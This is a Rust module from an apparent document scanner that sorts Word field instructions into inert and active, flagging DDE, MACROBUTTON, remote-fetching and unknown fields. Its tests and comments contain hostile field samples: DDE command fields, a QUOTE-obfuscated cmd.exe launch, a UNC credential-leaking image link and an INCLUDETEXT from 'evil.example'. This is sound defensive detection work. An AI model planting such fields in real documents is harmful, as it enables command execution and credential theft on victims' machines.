//! Field instructions Word runs or follows when a document opens, as RTF
//! and WordprocessingML both hold them.

use crate::vocab::FindingKind;

/// What an active field does: the finding it makes, and why in a few words.
pub(crate) type Activity = (FindingKind, &'static str);

/// Field kinds that only show, number, cross-reference or format what the
/// document holds: msodde's list of inert fields, hyperlinks, and the mail
/// merge, formula and form fields ordinary documents use. A field of any
/// other kind is active (default-deny): fields built out of nested fields
/// (`{ {QUOTE 68 68 69} ... }`) have no known kind to show, and neither do
/// DATABASE, PRINT, IMPORT, RD, CONTROL and the like, which read files,
/// query databases or drive the printer.
const INERT: &[&str] = &[
    "ADDIN",
    "ADDRESSBLOCK",
    "ADVANCE",
    "ASK",
    "AUTHOR",
    "AUTONUM",
    "AUTONUMLGL",
    "AUTONUMOUT",
    "AUTOTEXT",
    "AUTOTEXTLIST",
    "BARCODE",
    "BIBLIOGRAPHY",
    "BIDIOUTLINE",
    "CITATION",
    "COMMENTS",
    "COMPARE",
    "CREATEDATE",
    "DATE",
    "DISPLAYBARCODE",
    "DOCPROPERTY",
    "DOCVARIABLE",
    "EDITTIME",
    "EMBED",
    "EQ",
    "FILENAME",
    "FILESIZE",
    "FILLIN",
    "FORMCHECKBOX",
    "FORMDROPDOWN",
    "FORMTEXT",
    "GOTOBUTTON",
    "GREETINGLINE",
    "HYPERLINK",
    "IF",
    "INCLUDEPICTURE",
    "INCLUDETEXT",
    "INDEX",
    "INFO",
    "KEYWORDS",
    "LASTSAVEDBY",
    "LINK",
    "LISTNUM",
    "MERGEFIELD",
    "MERGEREC",
    "MERGESEQ",
    "NEXT",
    "NEXTIF",
    "NOTEREF",
    "NUMCHARS",
    "NUMPAGES",
    "NUMWORDS",
    "PAGE",
    "PAGEREF",
    "PRINTDATE",
    "PRIVATE",
    "QUOTE",
    "REF",
    "REVNUM",
    "SAVEDATE",
    "SECTION",
    "SECTIONPAGES",
    "SEQ",
    "SET",
    "SHAPE",
    "SKIPIF",
    "STYLEREF",
    "SUBJECT",
    "SYMBOL",
    "TA",
    "TC",
    "TEMPLATE",
    "TIME",
    "TITLE",
    "TOA",
    "TOC",
    "USERADDRESS",
    "USERINITIALS",
    "USERNAME",
    "XE",
];

/// Why a field instruction is active, or `None` for an inert one (PAGE,
/// DATE, a hyperlink, an empty instruction): DDE runs a command;
/// MACROBUTTON runs a macro or a built-in command when double-clicked;
/// INCLUDEPICTURE, INCLUDETEXT and LINK to a remote or UNC target fetch it
/// (and leak credentials) on opening; a field of a kind not in [`INERT`]
/// is active too.
fn active_field(instr: &str) -> Option<Activity> {
    let upper = instr.trim_start().to_ascii_uppercase();
    let word = upper.split_whitespace().next().unwrap_or_default();
    if word.starts_with("DDE") {
        return Some((FindingKind::Dde, "DDE"));
    }
    if word == "MACROBUTTON" {
        return Some((
            FindingKind::Macro,
            "running a macro or Word command on a double-click",
        ));
    }
    match word {
        "INCLUDEPICTURE" | "INCLUDETEXT" | "LINK" => {
            let remote = ["HTTP:", "HTTPS:", "\\\\", "FILE:", "//"]
                .iter()
                .any(|p| upper.contains(p));
            remote.then_some((FindingKind::ExternalReference, "fetching a remote file"))
        }
        // A bookmark reference (`{ total }`) and a formula (`{ =SUM(ABOVE) }`).
        _ if word.is_empty()
            || word.starts_with('=')
            || INERT.contains(&word)
            || is_bookmark(word) =>
        {
            None
        }
        _ => Some((FindingKind::Dde, "of a kind mugai does not check")),
    }
}

/// A field whose kind another field, nested at the start of its
/// instruction, supplies when Word runs it (`{ {QUOTE 68 68 69 …} c:\cmd.exe }`):
/// there is no kind to read here, so it is never inert.
const NESTED_KIND: Activity = (FindingKind::Dde, "whose kind comes from a nested field");

/// Why a field is active: [`active_field`] on its instruction, or
/// [`NESTED_KIND`] when a nested field at its start gives it its kind.
pub(crate) fn field_activity(instr: &str, kind_from_nested: bool) -> Option<Activity> {
    if kind_from_nested {
        return Some(NESTED_KIND);
    }
    active_field(instr)
}

/// `{ name }` shows bookmark `name`: letters, digits and underscores,
/// starting with a letter; Word reads the first word as such when it is
/// no field kind. Field kinds are English words, so a bookmark named like
/// one is read as that kind first.
fn is_bookmark(word: &str) -> bool {
    word.chars().next().is_some_and(char::is_alphabetic)
        && word.chars().all(|c| c.is_alphanumeric() || c == '_')
        && !word.chars().all(|c| c.is_ascii_uppercase())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn active_and_inert_fields() {
        assert_eq!(
            active_field(" DDEAUTO c:\\\\x").map(|a| a.0),
            Some(FindingKind::Dde)
        );
        assert_eq!(
            active_field("DDE cmd x").map(|a| a.0),
            Some(FindingKind::Dde)
        );
        assert_eq!(
            active_field("INCLUDEPICTURE \"\\\\\\\\198.51.100.7\\\\s\\\\a.png\" \\d").map(|a| a.0),
            Some(FindingKind::ExternalReference)
        );
        assert_eq!(
            active_field("includetext \"https://evil.example/x.docx\"").map(|a| a.0),
            Some(FindingKind::ExternalReference)
        );
        assert_eq!(
            active_field("MACROBUTTON Abbrechen feldname").map(|a| a.0),
            Some(FindingKind::Macro)
        );
        assert!(active_field(" PAGE ").is_none());
        assert!(active_field("").is_none(), "a blanked instruction");
        assert!(active_field("=SUM(ABOVE) \\# \"#,##0\"").is_none());
        assert!(active_field(" TOC \\o \"1-3\" \\h ").is_none());
        assert!(active_field("MERGEFIELD 氏名").is_none());
        // What is left of a field whose kind came from a nested field.
        assert_eq!(
            active_field(" c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"").map(|a| a.0),
            Some(FindingKind::Dde)
        );
        assert_eq!(
            active_field("DATABASE \\d \"C:\\\\x.mdb\" \\s \"select *\"").map(|a| a.0),
            Some(FindingKind::Dde)
        );
        assert!(active_field("INCLUDEPICTURE \"media/a.png\"").is_none());
        assert!(active_field("HYPERLINK \"https://example.jp\"").is_none());
    }
}
